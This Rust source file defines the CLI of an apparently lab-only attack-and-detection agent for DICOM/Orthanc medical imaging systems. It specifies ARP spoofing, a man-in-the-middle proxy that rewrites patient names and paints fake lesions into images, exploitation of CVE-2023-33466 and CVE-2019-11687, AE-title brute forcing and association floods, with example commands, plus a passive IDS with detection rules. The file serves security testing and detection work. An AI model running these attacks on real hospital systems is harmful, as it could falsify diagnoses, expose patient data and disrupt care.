//! The attacker and IDS subcommands of `lab-agent` (flattened into [`crate::Command`]).
//!
//! Contract: one JSON line on stdout carrying `"action"` and `"success"` (whether the
//! attack worked); exit 0 when the action ran (whatever `success` says), 4 when the target
//! was unreachable, 1 on any other error (with `"error"` in the JSON), 2 on bad usage.

use crate::values::{IdsRule, Preamble};
use clap::{Args, Subcommand};
use serde::Serialize;
use std::net::Ipv4Addr;
use std::path::PathBuf;

/// The calling AE title of the scanning tools (nmap's default).
pub const SCANNER_AET: &str = "ECHOSCU";

#[derive(Debug, Clone, PartialEq, Subcommand, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum AttackCommand {
    /// ARP spoofing: send unsolicited ARP replies telling --target that --impersonate is at
    /// our MAC address (libpcap sendpacket), --count times (at most 1000).
    #[command(
        name = "arp-spoof",
        after_help = "Example:\n  lab-agent arp-spoof --iface eth0 --target 10.213.0.2 --impersonate 10.213.0.3 --count 20 --interval-ms 200"
    )]
    ArpSpoof {
        #[arg(long, default_value = ArpSpoofOptions::DEFAULT_IFACE)]
        iface: String,
        #[arg(long)]
        target: Ipv4Addr,
        #[arg(long)]
        impersonate: Ipv4Addr,
        /// The target's MAC (default: the neighbour table, else broadcast).
        #[arg(long)]
        target_mac: Option<String>,
        #[command(flatten)]
        #[serde(flatten)]
        opts: ArpSpoofOptions,
    },
    /// A passive IDS on the tap: capture (never send), build the DICOM timeline with
    /// `wire`, alert on AET brute force, C-FIND sweep, association flood and PHI in clear.
    /// Alerts are JSON lines printed and appended to --alerts; {"event":"capturing"} first,
    /// {"event":"stopped","alerts":N} at SIGTERM.
    #[command(
        after_help = "Example:\n  lab-agent ids --iface br-lab --alerts /captures/alerts.jsonl --window-secs 10"
    )]
    Ids {
        #[arg(long)]
        iface: String,
        /// JSON-lines file the alerts are appended to.
        #[arg(long)]
        alerts: PathBuf,
        #[command(flatten)]
        #[serde(flatten)]
        opts: IdsOptions,
    },
    /// An on-path DICOM proxy: forwards PDUs both ways and rewrites PatientName in the data
    /// sets of C-STORE requests (lengths recomputed, re-fragmented at the negotiated max
    /// PDU). TLS is forwarded untouched. Prints {"event":"listening"} first and the summary
    /// at SIGTERM or after --max-secs.
    #[command(
        after_help = "Example:\n  lab-agent proxy --listen 0.0.0.0:4242 --upstream pacs:4242 --rewrite-patient 'ATTACKER^EVE' --max-secs 60"
    )]
    Proxy {
        #[arg(long, default_value = "0.0.0.0:4242")]
        listen: String,
        /// host:port of the real PACS.
        #[arg(long)]
        upstream: String,
        /// Stop after this many seconds (at most 3600).
        #[arg(long, default_value_t = 60, value_parser = clap::value_parser!(u64).range(1..=3600))]
        max_secs: u64,
        #[command(flatten)]
        #[serde(flatten)]
        opts: ProxyOptions,
    },
    /// Read Orthanc's REST API without (or with given) credentials: /system, /patients,
    /// /instances, and with --download the first instance's file and tags.
    #[command(
        name = "rest-probe",
        after_help = "Example:\n  lab-agent rest-probe --url http://pacs:8042 --download"
    )]
    RestProbe {
        #[command(flatten)]
        #[serde(flatten)]
        rest: RestArgs,
        #[command(flatten)]
        #[serde(flatten)]
        opts: RestProbeOptions,
    },
    /// CVE-2023-33466: make Orthanc write a stored instance to a path of our choosing
    /// (POST /instances/{id}/export); uploads a small synthetic instance if none is stored.
    #[command(
        name = "rest-write",
        after_help = "Example:\n  lab-agent rest-write --url http://pacs:8042 --path /tmp/dicom-range-pwned.txt"
    )]
    RestWrite {
        #[command(flatten)]
        #[serde(flatten)]
        rest: RestArgs,
        #[command(flatten)]
        #[serde(flatten)]
        opts: RestWriteOptions,
    },
    /// CVE-2019-11687: upload (POST /instances) a Part 10 file whose preamble is a PE or
    /// ELF header (tiff: a legitimate TIFF preamble, for comparison). REST only: over
    /// DICOM the preamble does not travel (P-DATA carries the data set only).
    #[command(
        name = "upload-polyglot",
        after_help = "Example:\n  lab-agent upload-polyglot --url http://pacs:8042 --preamble pe"
    )]
    UploadPolyglot {
        #[command(flatten)]
        #[serde(flatten)]
        rest: RestArgs,
        #[command(flatten)]
        #[serde(flatten)]
        opts: UploadPolyglotOptions,
    },
    /// Version fingerprint: implementation class UID / version name from the
    /// A-ASSOCIATE-AC, Orthanc's REST /system Version, against known vulnerabilities.
    #[command(
        after_help = "Example:\n  lab-agent fingerprint --host pacs --port 4242 --url http://pacs:8042"
    )]
    Fingerprint {
        #[arg(long)]
        host: String,
        #[arg(long, default_value_t = 4242)]
        port: u16,
        #[arg(long, default_value = "ORTHANC")]
        called: String,
        /// Orthanc's REST API (optional).
        #[arg(long)]
        url: Option<String>,
        #[command(flatten)]
        #[serde(flatten)]
        opts: FingerprintOptions,
    },
    /// Probe AE titles as nmap's dicom-ping/dicom-brute do: one A-ASSOCIATE-RQ for
    /// Verification per called AE title (released when accepted).
    #[command(
        name = "aet-scan",
        after_help = "Example:\n  lab-agent aet-scan --host pacs --port 4242 --called ORTHANC,PACS,ANY-SCP --random-probe"
    )]
    AetScan {
        #[arg(long)]
        host: String,
        #[arg(long, default_value_t = 4242)]
        port: u16,
        /// Our AE title (nmap's default).
        #[arg(long, default_value = SCANNER_AET)]
        calling: String,
        #[command(flatten)]
        #[serde(flatten)]
        opts: AetScanOptions,
    },
    /// A bounded association flood: N Verification associations (N <= 2000) with C in
    /// parallel for at most T seconds (T <= 30), each held briefly then released.
    #[command(
        after_help = "Example:\n  lab-agent flood --host pacs --port 4242 --associations 200 --concurrency 20 --max-secs 10"
    )]
    Flood {
        #[arg(long)]
        host: String,
        #[arg(long, default_value_t = 4242)]
        port: u16,
        #[arg(long, default_value = SCANNER_AET)]
        calling: String,
        #[command(flatten)]
        #[serde(flatten)]
        opts: FloodOptions,
    },
}

/// How `arp-spoof` sends its replies.
#[derive(Debug, Clone, PartialEq, Args, Serialize)]
pub struct ArpSpoofOptions {
    /// Also tell --impersonate that --target is at our MAC (the return path: a full man
    /// in the middle, as arpspoof -r).
    #[arg(long)]
    pub both_ways: bool,
    #[arg(long, default_value_t = 20, value_parser = clap::value_parser!(u32).range(1..=1000))]
    pub count: u32,
    #[arg(long, default_value_t = 200, value_parser = clap::value_parser!(u64).range(0..=10_000))]
    pub interval_ms: u64,
}

impl ArpSpoofOptions {
    /// A container's own interface.
    pub const DEFAULT_IFACE: &str = "eth0";
}

/// The IDS's capture, its rules and their thresholds (counts within the window).
#[derive(Debug, Clone, PartialEq, Args, Serialize)]
pub struct IdsOptions {
    /// Sliding window of every rule, in seconds.
    #[arg(long, default_value_t = 10, value_parser = clap::value_parser!(u64).range(1..=3600))]
    pub window_secs: u64,
    #[arg(long, default_value_t = 262_144)]
    pub snaplen: u32,
    /// Rejections for AE-title reasons that make a brute force.
    #[arg(long, default_value_t = IdsRule::AetBruteForce.default_threshold(), value_parser = threshold())]
    pub brute_force_threshold: u64,
    /// C-FIND requests that make a sweep.
    #[arg(long, default_value_t = IdsRule::CFindSweep.default_threshold(), value_parser = threshold())]
    pub sweep_threshold: u64,
    /// Association requests that make a flood.
    #[arg(long, default_value_t = IdsRule::AssociationFlood.default_threshold(), value_parser = threshold())]
    pub flood_threshold: u64,
    /// Clear data sets with a PatientName that make a PHI alert.
    #[arg(long, default_value_t = IdsRule::PhiInClear.default_threshold(), value_parser = threshold())]
    pub phi_threshold: u64,
    /// Executable preambles that make a polyglot alert.
    #[arg(long, default_value_t = IdsRule::PePreamble.default_threshold(), value_parser = threshold())]
    pub preamble_threshold: u64,
    /// A rule that is off (repeat for several); every rule is on by default.
    #[arg(long)]
    pub off: Vec<IdsRule>,
}

fn threshold() -> clap::builder::RangedU64ValueParser {
    clap::value_parser!(u64).range(1..=IdsRule::MAX_THRESHOLD)
}

impl IdsOptions {
    /// Only `rules` on, each at its threshold (the other options at their defaults).
    pub fn with_rules(rules: &[(IdsRule, u64)]) -> IdsOptions {
        let mut opts: IdsOptions = crate::argv::defaults();
        opts.off = IdsRule::ALL
            .iter()
            .copied()
            .filter(|r| !rules.iter().any(|(on, _)| on == r))
            .collect();
        for &(rule, n) in rules {
            *opts.threshold_mut(rule) = n.clamp(1, IdsRule::MAX_THRESHOLD);
        }
        opts
    }

    /// The threshold of `rule`, or `None` when it is off.
    pub fn threshold(&self, rule: IdsRule) -> Option<u64> {
        let n = match rule {
            IdsRule::AetBruteForce => self.brute_force_threshold,
            IdsRule::CFindSweep => self.sweep_threshold,
            IdsRule::AssociationFlood => self.flood_threshold,
            IdsRule::PhiInClear => self.phi_threshold,
            IdsRule::PePreamble => self.preamble_threshold,
        };
        (!self.off.contains(&rule)).then_some(n)
    }

    fn threshold_mut(&mut self, rule: IdsRule) -> &mut u64 {
        match rule {
            IdsRule::AetBruteForce => &mut self.brute_force_threshold,
            IdsRule::CFindSweep => &mut self.sweep_threshold,
            IdsRule::AssociationFlood => &mut self.flood_threshold,
            IdsRule::PhiInClear => &mut self.phi_threshold,
            IdsRule::PePreamble => &mut self.preamble_threshold,
        }
    }
}

/// What the proxy does to what it forwards.
#[derive(Debug, Clone, PartialEq, Args, Serialize)]
pub struct ProxyOptions {
    /// The PatientName written into every stored data set.
    #[arg(long, default_value = "ATTACKER^EVE")]
    pub rewrite_patient: String,
    /// Also paint a bright disc (a fake lesion) into the first frame of every image:
    /// native 8/16-bit pixel data, or JPEG Baseline decoded and encoded again.
    #[arg(long)]
    pub tamper_pixels: bool,
    /// Drop an association idle for this many seconds.
    #[arg(long, default_value_t = 30)]
    pub idle_secs: u64,
}

/// Where Orthanc's REST API is.
#[derive(Debug, Clone, PartialEq, Args, Serialize)]
pub struct RestArgs {
    /// Base URL of Orthanc's REST API.
    #[arg(long, default_value = "http://pacs:8042")]
    pub url: String,
    /// Connect timeout in seconds (each request: 6x this at most).
    #[arg(long, default_value_t = RestArgs::DEFAULT_TIMEOUT_SECS)]
    pub timeout_secs: u64,
}

impl RestArgs {
    pub const DEFAULT_TIMEOUT_SECS: u64 = 5;
}

/// How to log in to Orthanc's REST API.
#[derive(Debug, Clone, PartialEq, Args, Serialize)]
pub struct RestLogin {
    /// HTTP Basic user (none: unauthenticated).
    #[arg(long)]
    pub user: Option<String>,
    #[arg(long)]
    pub password: Option<String>,
}

/// `rest-probe`'s login and depth.
#[derive(Debug, Clone, PartialEq, Args, Serialize)]
pub struct RestProbeOptions {
    #[command(flatten)]
    #[serde(flatten)]
    pub login: RestLogin,
    /// Download the first instance (/instances/{id}/file, bytes counted) and read its
    /// PatientName (/instances/{id}/simplified-tags).
    #[arg(long)]
    pub download: bool,
}

/// `rest-write`'s login and target path.
#[derive(Debug, Clone, PartialEq, Args, Serialize)]
pub struct RestWriteOptions {
    #[command(flatten)]
    #[serde(flatten)]
    pub login: RestLogin,
    /// Absolute path, on the PACS, to write.
    #[arg(long)]
    pub path: String,
}

/// `upload-polyglot`'s login and preamble.
#[derive(Debug, Clone, PartialEq, Args, Serialize)]
pub struct UploadPolyglotOptions {
    #[command(flatten)]
    #[serde(flatten)]
    pub login: RestLogin,
    /// pe, elf or tiff.
    #[arg(long)]
    pub preamble: Preamble,
}

/// `fingerprint`'s AE title, REST login and timeout.
#[derive(Debug, Clone, PartialEq, Args, Serialize)]
pub struct FingerprintOptions {
    #[arg(long, default_value = SCANNER_AET)]
    pub calling: String,
    #[arg(long)]
    pub user: Option<String>,
    #[arg(long)]
    pub password: Option<String>,
    #[arg(long, default_value_t = 5)]
    pub timeout_secs: u64,
}

/// Which AE titles `aet-scan` tries, and how fast.
#[derive(Debug, Clone, PartialEq, Args, Serialize)]
pub struct AetScanOptions {
    /// Called AE titles to try, comma-separated (or the flag repeated).
    #[arg(long, value_delimiter = ',')]
    pub called: Vec<String>,
    /// First try a random 16-character AE title: accepted means any AE title is.
    #[arg(long)]
    pub random_probe: bool,
    /// At most this many association requests (the random probe included).
    #[arg(long, default_value_t = 200, value_parser = clap::value_parser!(u32).range(1..=5000))]
    pub max: u32,
    /// Pause between two attempts, in milliseconds.
    #[arg(long, default_value_t = 0)]
    pub delay_ms: u64,
    /// Timeout of each connection and read, in seconds.
    #[arg(long, default_value_t = 5)]
    pub timeout_secs: u64,
    /// Stop trying new AE titles after this many seconds.
    #[arg(long, default_value_t = 120)]
    pub max_secs: u64,
}

/// The size and pace of a `flood`.
#[derive(Debug, Clone, PartialEq, Args, Serialize)]
pub struct FloodOptions {
    #[arg(long, default_value = "ORTHANC")]
    pub called: String,
    #[arg(long, default_value_t = 100, value_parser = clap::value_parser!(u32).range(1..=2000))]
    pub associations: u32,
    #[arg(long, default_value_t = 10, value_parser = clap::value_parser!(u32).range(1..=256))]
    pub concurrency: u32,
    #[arg(long, default_value_t = 10, value_parser = clap::value_parser!(u64).range(1..=30))]
    pub max_secs: u64,
    /// How long each accepted association is held before A-RELEASE, in milliseconds.
    #[arg(long, default_value_t = 50)]
    pub hold_ms: u64,
    #[arg(long, default_value_t = 5)]
    pub timeout_secs: u64,
}
